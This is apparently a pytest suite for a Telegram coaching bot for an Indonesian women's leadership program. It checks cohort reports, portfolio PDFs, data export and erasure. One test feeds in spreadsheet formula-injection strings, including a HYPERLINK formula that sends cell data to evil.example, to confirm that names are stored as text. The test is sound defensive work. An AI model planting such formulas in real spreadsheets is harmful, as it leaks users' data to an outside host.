"""E-portfolio, the organizers' report, and her data rights, in-process."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import inspect, select, text
from sqlalchemy.engine import make_url

from db.audit import record
from db.broadcasts import create_broadcast
from db.models import AuditAction, BroadcastKind, CheckIn, CheckInStatus, Cohort, Person
from db.report import cohort_report
from handlers.checkins import sweep_checkins
from handlers.community import sweep_broadcasts
from handlers.report import CohortReport, report_filename, to_csv, to_xlsx
from tests.support import factories
from tests.support.bots import InProcessBot
from tests.support.inprocess import say, tap
from tests.support.seeds import REPORT_NOW, report_cohort

REPORT_DAY = REPORT_NOW.date()


async def seed(bot: InProcessBot) -> Cohort:
    bot.clock.set(REPORT_NOW)
    async with bot.app.runtime.open_session() as session:
        cohort = await report_cohort(session, bot.app.runtime.settings.data_dir)
    for n in range(4):
        bot.double.user(6100 + n, "ABCD"[n])
    return cohort


async def test_report_indicators(bot: InProcessBot) -> None:
    cohort = await seed(bot)
    async with bot.app.runtime.open_session() as session:
        cohort = await session.get(Cohort, cohort.id)
        indicators, rows = await cohort_report(session=session, cohort=cohort, now=REPORT_NOW)
    assert (indicators.alumnae, indicators.promoted_or_assigned, indicators.pap_implementation) == (4, 0.25, 0.75)
    assert (indicators.checkin_response, indicators.forum_participation, indicators.cop_engagement, indicators.active_30_days) == (
        0.5,
        0.25,
        0.25,
        0.5,
    )
    assert indicators.perception == {"communication": 4.0, "collaboration": 4.0, "initiative": 5.0, "service_effect": 3.0, "overall": 4.0}
    book = load_workbook(io.BytesIO(to_xlsx(bot.app.runtime.texts, "id", [CohortReport(cohort, indicators, rows)], REPORT_DAY)))
    summary = book["Ringkasan"]
    values = {row[0].value: row[1].value for row in summary.iter_rows(min_row=2) if row[0].value}
    assert values["Jumlah alumni"] == 4
    assert values["Promosi atau penugasan strategis dalam 6–12 bulan"] == 0.25
    assert values["PAP terlaksana (selesai atau ≥75%)"] == 0.75
    assert values["Tingkat respons check-in"] == 0.5
    assert values["Aktif dalam 30 hari terakhir"] == 0.5
    assert values["Kepuasan keseluruhan"] == 4.0
    targets = {row[0].value: row[2].value for row in summary.iter_rows() if row[0].value}
    assert targets["Promosi atau penugasan strategis dalam 6–12 bulan"] == "25–30%"
    assert targets["Tingkat respons check-in"] == "belum ditetapkan dalam desain program"
    assert values["Program"] == "Pelatihan Kepemimpinan ASN Perempuan" and values["Masa monitoring"] == "1 Januari 2026 – 1 Juli 2026"
    assert values["Tanggal laporan"].date() == REPORT_DAY
    assert len(summary._charts) == 1
    alumnae = list(book["Alumni"].iter_rows(values_only=True))
    assert alumnae[0][0] == "Nama" and [r[0] for r in alumnae[1:]] == ["A", "B", "C", "D"]
    comments = alumnae[0].index("Komentar penilai (tanpa nama)")
    assert [r[comments] for r in alumnae[1:]] == ["Sangat membantu", None, None, None]  # anonymous, closed rounds only


async def test_report_command_sends_xlsx_to_a_coach(bot: InProcessBot) -> None:
    cohort = await seed(bot)
    from db.enrolment import enrol_coach

    async with bot.app.runtime.open_session() as session:
        await enrol_coach(
            session=session,
            telegram_id=6199,
            cohort=await session.get(Cohort, cohort.id),
            name="Coach",
            locale="id",
            timezone="Asia/Jakarta",
            now=REPORT_NOW,
        )
        await session.commit()
    coach = bot.double.user(6199, "Coach")
    document = await say(bot, coach, "/laporan")
    assert document.method == "sendDocument" and document.file is not None
    summary = {row[0].value: row[1].value for row in load_workbook(io.BytesIO(document.file.data))["Ringkasan"].iter_rows()}
    assert summary["Jumlah alumni"] == 4
    assert document.file.name == "laporan-angkatan-i-2026-2026-08-01.xlsx"  # the cohort and the day, on her clock
    stranger = bot.double.user(6198, "Tamu")
    assert "hanya untuk coach" in (await say(bot, stranger, "/report")).text


async def test_portfolio_pdf_contains_her_work(bot: InProcessBot) -> None:
    await seed(bot)
    alumna = bot.double.user(6100, "A")
    assert (
        "Sertakan juga refleksi yang Ibu simpan pribadi dan catatan sesi coaching 1-on-1?" in (await say(bot, alumna, "/portofolio")).text
    )
    assert "Menyiapkan" in (await tap(bot, alumna, "Sertakan refleksi pribadi")).text
    pdf = alumna.next_message()
    assert pdf.method == "sendDocument" and pdf.file is not None and pdf.file.name == "e-portofolio.pdf"
    reader = PdfReader(io.BytesIO(pdf.file.data))
    content = "\n".join(page.extract_text() for page in reader.pages)
    for expected in ("PAP A", "Tahap 1", "Sosialisasi layanan di kelurahan", "Refleksi minggu 21", "Promosi ke jabatan lebih tinggi"):
        assert expected in content
    assert any(page.images for page in reader.pages)  # the evidence photo and the confidence chart


async def test_my_data_zip_holds_json_and_evidence(bot: InProcessBot) -> None:
    await seed(bot)
    alumna = bot.double.user(6100, "A")
    document = await say(bot, alumna, "/data_saya")
    archive = zipfile.ZipFile(io.BytesIO(document.file.data))
    data = json.loads(archive.read("data.json"))
    assert data["person"]["telegram_id"] == 6100 and data["logbook"][0]["text"] == "Sosialisasi layanan di kelurahan"
    assert [r["went_well"] for r in data["reflections"]] == ["Refleksi minggu 20", "Refleksi minggu 21"]
    assert any(name.endswith("u1.jpg") for name in archive.namelist())
    assert document.file.name == "data-saya.zip"


async def test_file_names_follow_her_language(bot: InProcessBot) -> None:
    await seed(bot)
    async with bot.app.runtime.open_session() as session:
        her = await session.scalar(select(Person).where(Person.telegram_id == 6100))
        assert her is not None
        her.locale = "en"
        await session.commit()
    alumna = bot.double.user(6100, "A")
    assert (await say(bot, alumna, "/mydata")).file.name == "my-data.zip"
    await say(bot, alumna, "/portfolio")
    assert "Preparing" in (await tap(bot, alumna, "Without private reflections")).text
    assert alumna.next_message().file.name == "e-portfolio.pdf"


async def test_deletion_leaves_no_row_with_her_id_and_no_file(bot: InProcessBot) -> None:
    cohort = await seed(bot)
    alumna = bot.double.user(6100, "A")
    await say(bot, alumna, f"/start {cohort.coach_code}")  # she asked to coach too: a request, and an audit row about her
    await say(bot, alumna, "A")
    async with bot.app.runtime.open_session() as session:
        await record(session=session, action=AuditAction.COACH_DECLINED, actor=900001, now=REPORT_NOW, subject=6100)
        her = await session.scalar(select(Person).where(Person.telegram_id == 6100))
        her.agency = "ZQX-agency-5521"  # to find in the database files afterwards
        await session.commit()
    alumna.skip_read()
    confirm = await say(bot, alumna, "/hapus_data")
    assert "1 entri logbook dengan 1 bukti, 2 refleksi" in confirm.text
    assert confirm.button_texts == ["🗑 Ya, hapus semua data saya", "✖️ Batal"]
    assert "tidak ada yang dihapus" in (await tap(bot, alumna, "Batal")).text
    async with bot.app.runtime.open_session() as session:
        assert await session.scalar(select(Person).where(Person.telegram_id == 6100)) is not None
    confirm = await say(bot, alumna, "/hapus_data")
    reply = await tap(bot, alumna, "Ya, hapus")
    assert "telah dihapus" in reply.text
    data_dir = bot.app.runtime.settings.data_dir
    assert not any(path.is_file() for path in (data_dir / "evidence").rglob("*"))
    async with bot.app.runtime.open_session() as session:
        connection = await session.connection()
        tables = await connection.run_sync(lambda sync: inspect(sync).get_table_names())
        for table in tables:
            columns = await connection.run_sync(lambda sync, t=table: [c["name"] for c in inspect(sync).get_columns(t)])
            for column in columns:
                hits = await session.scalar(text(f'SELECT COUNT(*) FROM "{table}" WHERE CAST("{column}" AS TEXT) = :id'), {"id": "6100"})
                assert hits == 0, f"{table}.{column} still holds her Telegram id"
        indicators, _ = await cohort_report(session=session, cohort=await session.get(Cohort, cohort.id), now=REPORT_NOW)
    assert (indicators.alumnae, indicators.promoted_or_assigned) == (4, 0.25)  # kept as anonymous counts
    await assert_no_copy_left(bot, b"ZQX-agency-5521")


async def assert_no_copy_left(bot: InProcessBot, marker: bytes) -> None:
    """SQLite: not in the database file nor its write-ahead log. PostgreSQL: the tables were vacuumed."""
    url = make_url(bot.app.runtime.settings.database_url)
    if url.get_backend_name() == "sqlite":
        files = [Path(f"{url.database}{suffix}") for suffix in ("", "-wal")]
        assert [f.name for f in files if f.exists() and marker in f.read_bytes()] == []
        return
    async with bot.app.runtime.open_session() as session:
        for _ in range(50):  # statistics reach the view within a second or so
            vacuumed = await session.scalar(text("SELECT last_vacuum FROM pg_stat_user_tables WHERE relname = 'people'"))
            if vacuumed is not None:
                return
            await session.rollback()
            await asyncio.sleep(0.1)
    raise AssertionError("the people table was not vacuumed after the erasure")


async def test_after_withdrawing_consent_nothing_reaches_her(bot: InProcessBot) -> None:
    await seed(bot)
    alumna = bot.double.user(6100, "A")
    await say(bot, alumna, "/privasi")
    reply = await tap(bot, alumna, "Tarik persetujuan")
    assert "Persetujuan ditarik" in reply.text
    async with bot.app.runtime.open_session() as session:
        person = await session.scalar(select(Person).where(Person.telegram_id == 6100))
        session.add(
            CheckIn(
                person_id=person.id,
                cohort_id=(await session.scalar(select(Cohort.id))),
                sequence=9,
                kind="regular",
                month=7,
                due_at=REPORT_NOW,
                status=CheckInStatus.PLANNED,
            )
        )
        await create_broadcast(session=session, kind=BroadcastKind.GENERAL, cohort_id=None, title="Info", body="Isi", now=REPORT_NOW)
        await session.commit()
    before = len(alumna.messages())
    await sweep_checkins(bot.app.runtime, bot.app.bot)
    await sweep_broadcasts(bot.app.runtime, bot.app.bot)
    assert len(alumna.messages()) == before
    assert any("Isi" in m.text for m in bot.double.user(6101, "B").messages())  # others still get it


@pytest.mark.slow
async def test_report_from_the_command_line(bot: InProcessBot, database_url: str, tmp_path: Path) -> None:
    import asyncio
    import csv
    import os
    import sys
    from pathlib import Path

    cohort = await seed(bot)
    ecoach = str(Path(sys.executable).parent / "ecoach")
    env = {**os.environ, "DATABASE_URL": database_url}

    async def run(*args: str) -> asyncio.subprocess.Process:
        process = await asyncio.create_subprocess_exec(
            ecoach, "report", "--cohort", cohort.alumni_code, *args, env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
        )
        await process.wait()
        return process

    json_run = await run("--format", "json")
    data = json.loads(await json_run.stdout.read())
    assert data["indicators"]["pap_implementation"] == 0.75 and len(data["alumnae"]) == 4
    csv_run = await run("--format", "csv")
    rows = list(csv.DictReader(io.StringIO((await csv_run.stdout.read()).decode("utf-8-sig"))))
    assert [r["Nama"] for r in rows] == ["A", "B", "C", "D"] and rows[2]["Status PAP"] == "Selesai"  # words, not codes
    assert [a["status"] for a in data["alumnae"]][2] == "done"  # JSON is for programs: codes
    out = tmp_path / "laporan.xlsx"
    assert (await run("--format", "xlsx", "--out", str(out))).returncode == 0
    assert load_workbook(out)["Alumni"]["A2"].value == "A"
    assert (await run("--format", "xlsx")).returncode == 2  # binary needs --out


FORMULAS = ["=1+1", "+1", "-1", '=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "@SUM(A1)"]


async def test_names_that_look_like_formulas_are_text_in_xlsx_and_csv(bot: InProcessBot) -> None:
    cohort = await seed(bot)
    async with bot.app.runtime.open_session() as session:
        people = list(await session.scalars(select(Person).order_by(Person.telegram_id)))
        for person, formula in zip(people, FORMULAS, strict=False):
            person.name = formula
        people[0].agency = "\tTab"
        await session.commit()
        cohort = await session.get(Cohort, cohort.id)
        indicators, rows = await cohort_report(session=session, cohort=cohort, now=REPORT_NOW)
    sheet = load_workbook(io.BytesIO(to_xlsx(bot.app.runtime.texts, "id", [CohortReport(cohort, indicators, rows)], REPORT_DAY)))["Alumni"]
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in names) == sorted(FORMULAS[:4])
    assert all(cell.data_type == "s" for cell in names)
    agencies = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == "\tTab"]
    assert [cell.data_type for cell in agencies] == ["s"]

    written = list(
        csv.DictReader(io.StringIO(to_csv(bot.app.runtime.texts, "id", [CohortReport(cohort, indicators, rows)]).decode("utf-8-sig")))
    )
    assert sorted(r["Nama"] for r in written) == sorted("'" + name for name in FORMULAS[:4])
    assert "'\tTab" in [r["Instansi"] for r in written]


async def test_the_report_is_ready_to_forward(bot: InProcessBot, tmp_path: Path) -> None:
    """Widths, a frozen header with filters, words for every code, real dates, a dated file name; --all compares cohorts."""
    cohort = await seed(bot)
    async with bot.app.runtime.open_session() as session:
        cohort = await session.get(Cohort, cohort.id)
        assert cohort is not None
        first = await session.scalar(select(Person).where(Person.name == "A"))
        assert first is not None
        first.nip = "198503122010012004"
        await session.flush()
        report = CohortReport(cohort, *await cohort_report(session=session, cohort=cohort, now=REPORT_NOW))
    texts = bot.app.runtime.texts
    book = load_workbook(io.BytesIO(to_xlsx(texts, "id", [report], REPORT_DAY)))
    sheet = book["Alumni"]
    header = [c.value for c in sheet[1]]
    assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}5"
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMNOPQR"}
    assert all(width and width >= 10 for width in widths.values()) and widths["F"] >= len("PAP A")
    nip = sheet.cell(2, header.index("NIP") + 1)
    assert (nip.value, nip.data_type) == ("198503122010012004", "s")  # text: as a number Excel would keep 15 digits
    activity = [row[header.index("Aktivitas terakhir")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.is_date and cell.number_format == "DD-MM-YYYY" for cell in activity)
    codes = {"on_track", "late", "stalled", "done", "delayed", "stuck", "pengawas", "no_progress", "overdue", "inactive", "TRUE", "FALSE"}
    words = {str(cell.value) for page in book.worksheets for row in page.iter_rows() for cell in row if cell.value is not None}
    assert not words & codes and not any("_" in word and word.islower() for word in words)
    assert report_filename(texts, "id", [report], date(2026, 11, 28)) == "laporan-angkatan-i-2026-2026-11-28.xlsx"
    assert report_filename(texts, "en", [report], date(2026, 11, 28), "csv") == "report-angkatan-i-2026-2026-11-28.csv"
    english = load_workbook(io.BytesIO(to_xlsx(texts, "en", [report], REPORT_DAY)))
    assert english.sheetnames == ["Summary", "Alumnae"] and english["Alumnae"]["A1"].value == "Name"

    async with bot.app.runtime.open_session() as session:
        for name in ("Angkatan II 2026", "Angkatan III: Timur/Barat"):
            await factories.cohort(session, REPORT_NOW, name=name)
        await session.commit()
        cohorts = list(await session.scalars(select(Cohort).order_by(Cohort.id)))
        reports = [CohortReport(c, *await cohort_report(session=session, cohort=c, now=REPORT_NOW)) for c in cohorts]
    book = load_workbook(io.BytesIO(to_xlsx(texts, "id", reports, REPORT_DAY)))
    assert book.sheetnames == ["Ringkasan", "Angkatan I 2026", "Angkatan II 2026", "Angkatan III  Timur Barat"]
    compared = [c.value for c in next(row for row in book["Ringkasan"].iter_rows() if row[0].value == "Indikator")]
    assert compared == ["Indikator", "Angkatan I 2026", "Angkatan II 2026", "Angkatan III: Timur/Barat", "Target"]
    assert report_filename(texts, "id", reports, date(2026, 11, 28)) == "laporan-semua-angkatan-2026-11-28.xlsx"


async def test_portfolio_fit_to_file(bot: InProcessBot) -> None:
    """Header with programme, cohort, period and coach; a Mengetahui block; private reflections only on request;
    every emoji the texts use either drawn or written as its name."""
    from bot.kernel.i18n import load_catalog
    from db.enrolment import enrol_coach
    from db.models import Reflection

    await seed(bot)
    emoji = sorted({ch for loc in ("id", "en") for text in load_catalog(loc).values() for ch in text if ord(ch) >= 0x2190})
    async with bot.app.runtime.open_session() as session:
        cohort = await session.scalar(select(Cohort))
        assert cohort is not None
        await enrol_coach(session=session, telegram_id=6199, cohort=cohort, name="Coach Maya", locale="id", timezone="Asia/Jakarta",
                          now=REPORT_NOW)  # fmt: skip
        shared = await session.scalar(select(Reflection).where(Reflection.week == 21))
        assert shared is not None
        shared.shared, shared.went_well = True, "Ikon: " + " ".join(emoji) + " · مرحبا بالعالم"
        her = await session.scalar(select(Person).where(Person.telegram_id == 6100))
        assert her is not None
        her.nip = "198503122010012004"
        await session.commit()
    alumna = bot.double.user(6100, "A")
    await say(bot, alumna, "/portofolio")
    await tap(bot, alumna, "Tanpa refleksi pribadi")
    pdf = alumna.next_message()
    (Path(os.environ.get("ECOACH_KEEP_PDF", "/nonexistent")) / "portfolio.pdf").parent.is_dir() and (
        Path(os.environ["ECOACH_KEEP_PDF"]) / "portfolio.pdf"
    ).write_bytes(pdf.file.data)  # to look at the pages: ECOACH_KEEP_PDF=DIR
    content = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.file.data)).pages)
    flat = " ".join(content.split())
    for expected in ("NIP 198503122010012004", "Pelatihan Kepemimpinan ASN Perempuan", "Angkatan I 2026", "Coach Maya",
                     "Mengetahui,", "Atasan langsung", "1 Januari 2026 – 1 Juli 2026"):  # fmt: skip
        assert expected in flat, expected
    assert "Refleksi minggu 20" not in flat  # private, and she did not ask for it
    # Arabic, joined and right to left: drawn left to right as ﻢﻟﺎﻌﻟﺎﺑ ﺎﺒﺣﺮﻣ, in the letters' joined forms
    assert "\ufee2\ufedf\ufe8e\ufecc\ufedf\ufe8e\ufe91 \ufe8e\ufe92\ufea3\ufeae\ufee3" in content and "مرحبا" not in content
    assert "None" not in flat
    import unicodedata

    for character in emoji:
        if character in "\ufe0f\u200d" or 0x1F1E6 <= ord(character) <= 0x1F1FF:
            continue
        assert character in content or unicodedata.name(character).lower() in flat, character
